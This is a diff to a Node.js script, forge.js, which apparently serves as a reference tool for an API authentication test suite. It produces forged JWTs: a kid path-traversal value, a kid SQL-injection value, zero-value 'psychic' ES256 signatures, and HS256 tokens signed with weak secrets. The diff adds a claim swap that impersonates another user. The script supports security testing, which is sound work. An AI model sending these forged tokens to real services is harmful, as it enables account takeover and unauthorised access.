@@ -6,7 +6,7 @@
 // code it judges. Kept as the record of how each API-2x verdict was found;
 // the test does not run it.
 //
-//   node forge.js TOKEN [OTHER_USERNAME]
+//   node forge.js TOKEN [OTHER_USERNAME [CLAIM]]
 //
 // prints one "NAME TOKEN" line per forgery of docs/api-suite.md API-20a..
 // API-28 (API-24 needs a published public key, which this API has not):
@@ -20,6 +20,10 @@
 //   kid-devnull     kid ../../../../../../dev/null, HS256 key ""   (API-26)
 //   kid-sql         kid x' UNION SELECT 'authprobe'--, HS256 key "authprobe" (API-26)
 //   psychic         alg ES256, signature r = s = 0 (64 zero bytes) (API-28)
+//   swap            CLAIM (default sub) set to OTHER_USERNAME (a number when
+//                   it is digits: simplejwt's user_id), signature kept (API-29)
+//   swap-weak-*     the same, HS256 with each weak secret           (API-29)
+// (API-27a/b: keyurl.js)
 'use strict';
 
 const crypto = require('node:crypto');
@@ -35,10 +39,10 @@ const hs256 = (input, key) => b64u(crypto.createHmac('sha256', key).update(input
 
 function main(argv) {
   if (argv.length < 1) {
-    process.stderr.write('usage: node forge.js TOKEN [OTHER_USERNAME]\n');
+    process.stderr.write('usage: node forge.js TOKEN [OTHER_USERNAME [CLAIM]]\n');
     return 2;
   }
-  const [token, other] = argv;
+  const [token, other, claim = 'sub'] = argv;
   const [h, p, sig] = token.split('.');
   const header = dec(h);
   const claims = dec(p);
@@ -58,6 +62,14 @@ function main(argv) {
   WEAK.forEach((secret, i) => {
     out.push([`weak-${i}:${JSON.stringify(secret)}`, `${hsHeader}.${p}.${hs256(`${hsHeader}.${p}`, secret)}`]);
   });
+
+  if (other) {
+    const swapped = enc({ ...claims, [claim]: /^[0-9]+$/.test(other) ? Number(other) : other });
+    out.push(['swap', `${h}.${swapped}.${sig}`]);
+    WEAK.forEach((secret, i) => {
+      out.push([`swap-weak-${i}:${JSON.stringify(secret)}`, `${h}.${swapped}.${hs256(`${h}.${swapped}`, secret)}`]);
+    });
+  }
 
   const { privateKey, publicKey } = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
   const jwkHeader = enc({ alg: 'ES256', typ: 'JWT', jwk: publicKey.export({ format: 'jwk' }) });
